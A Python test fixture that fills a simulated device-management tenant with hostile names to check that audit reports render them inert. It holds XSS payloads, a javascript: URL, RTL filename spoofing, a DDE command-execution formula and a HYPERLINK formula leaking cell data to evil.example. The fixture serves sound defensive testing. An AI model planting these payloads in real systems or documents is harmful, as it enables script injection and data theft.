"""A hostile tenant: the ``ready`` scenario with every name an attacker (or a careless admin)
could type into the console.

Tenant strings reach every report: names of tags, smart groups, apps, profiles, devices
and registrations, descriptions, the discovery answer's URLs. This tenant fills them with
markup (``<script>``, ``</style>``, event-handler attributes), ``javascript:`` URLs,
spreadsheet formula prefixes (``= + - @``, tab, CR), control characters, right-to-left
overrides, 10,000-character strings and every script (Latin, Cyrillic, Arabic, Hebrew,
CJK, emoji). Ids, the OG tree and the assignments are the ``ready`` scenario's, so the
audit still finds the Drop Ship smart group (configure ``dropship.tags`` with
:data:`DROPSHIP_TAG`) and the checks decide as they do for ``ready``.

A page that shows this tenant must stay inert: any script of the tenant's that ran would
set ``window.__pwned``.
"""

from __future__ import annotations

from typing import Any

from audit.simulator.tenant import load_scenario, validate_tenant

__all__ = [
    "CONTROL",
    "DROPSHIP_TAG",
    "FORMULAS",
    "JS_URL",
    "LONG",
    "RTL",
    "SCRIPT",
    "SCRIPTS",
    "STYLE_BREAK",
    "hostile_tenant",
]

SCRIPT = "<script>window.__pwned=(window.__pwned||0)+1</script>"
STYLE_BREAK = "</style></script><style>*{display:none!important}</style>"
IMG = "<img src=x onerror=\"window.__pwned='img'\">"
JS_URL = "javascript:window.__pwned='href'//"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)
CONTROL = "ctl\x00nul\x07bel\x1b[31mesc\x08bs\x7fdel\x85nel\u2028ls"
RTL = "invoice\u202egpj.exe\u202c (RLO)"
SCRIPTS = (
    "Latin Ünïcödé façade – Кириллица Привет – العربية مرحبا – עברית שלום – "
    "中文漢字 – 日本語かな – 한국어 – 🚀🔥👩‍💻🇩🇪"
)
#: 10,000 characters with no space to break on.
LONG = "W" * 9_991 + "-long-end"
#: The Drop Ship tag (configure it in ``dropship.tags``): a formula, markup and a quote.
DROPSHIP_TAG = '=RnD"><script>window.__pwned=1</script>'


def hostile_tenant() -> dict[str, Any]:
    """The ``ready`` scenario with hostile names everywhere (see the module docstring)."""
    tenant = load_scenario("ready")
    tenant["name"] = f"Hostile {SCRIPT} {SCRIPTS}"
    tenant["description"] = f"{STYLE_BREAK} {IMG} {JS_URL} {LONG}"
    tags = {t["id"]: t for t in tenant["tags"]}
    tags[5]["name"] = DROPSHIP_TAG
    tags[6]["name"] = FORMULAS[1]
    tags[7]["name"] = f"{FORMULAS[3]} {RTL}"
    groups = {g["id"]: g for g in tenant["smart_groups"]}
    groups[12]["name"] = f"Drop Ship {SCRIPTS} {STYLE_BREAK}"
    groups[13]["name"] = f"{IMG} all desktops"
    groups[14]["name"] = LONG
    apps = {a["id"]: a for a in tenant["apps"]}
    apps[101]["name"] = f"{IMG} 7-Zip"
    apps[102]["name"] = LONG
    apps[103]["name"] = f"{FORMULAS[3]} {RTL}"
    apps[104]["name"] = f"{FORMULAS[2]} {CONTROL}"
    apps[105]["name"] = f"{FORMULAS[0]}"
    apps[106]["name"] = f"{JS_URL} portal"
    profiles = {p["id"]: p for p in tenant["profiles"]}
    profiles[201]["name"] = f"{SCRIPT} local admin {SCRIPTS}"
    profiles[201]["description"] = f"{STYLE_BREAK}{LONG}"
    profiles[202]["name"] = f"{JS_URL} {FORMULAS[4]}"
    profiles[203]["name"] = f"{FORMULAS[5]} {CONTROL}"
    names = [
        SCRIPT,
        LONG,
        CONTROL,
        RTL,
        FORMULAS[0],
        FORMULAS[1],
        FORMULAS[2],
        FORMULAS[3],
        f"{STYLE_BREAK} desk",
        SCRIPTS,
        "Кириллица-ПК",
        "حاسوب-عربي",
        "מחשב-עברי",
        "笔记本电脑",
        "🚀💻 laptop",
    ]
    for device, name in zip(tenant["devices"], names, strict=False):
        device["name"] = name
    for reg, name in zip(tenant["registrations"], [*FORMULAS, SCRIPT], strict=False):
        reg["friendly_name"] = name
        reg["tags"] = [DROPSHIP_TAG if t == "RnD" else t for t in reg.get("tags", [])]
    tenant["discovery"]["contoso.com"]["greenbox_url"] = JS_URL
    customer = next(og for og in tenant["org_groups"] if og["id"] == 570)
    customer["dropship"]["username"] = FORMULAS[4]  # the staging username the API shows
    return validate_tenant(tenant)
